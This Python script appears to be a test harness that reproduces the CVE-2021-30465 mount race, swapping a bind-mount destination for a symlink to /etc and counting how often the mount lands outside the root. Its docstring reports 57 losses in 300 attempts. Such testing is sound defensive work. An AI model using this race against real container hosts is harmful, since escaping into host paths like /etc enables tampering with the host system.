"""The destination exchanged with a link out of the root (CVE-2021-30465); lstat and mount lost 57 of 300."""

from lib import ROOT, enter, folder, race, write  # type: ignore[import-not-found]

source = folder("shown")
write(source / "mark", "right")
(ROOT / "evil").symlink_to("/etc")


def once() -> str:
    done = enter("/usr/bin/cat", "/proc/self/mountinfo", options=("-r", str(source), "mnt"))
    if done.returncode == 125:
        return "refused"
    return "won" if any(line.split()[3].endswith("/shown") for line in done.stdout.splitlines()) else "landed elsewhere"


race(ROOT / "mnt", ROOT / "evil", once)
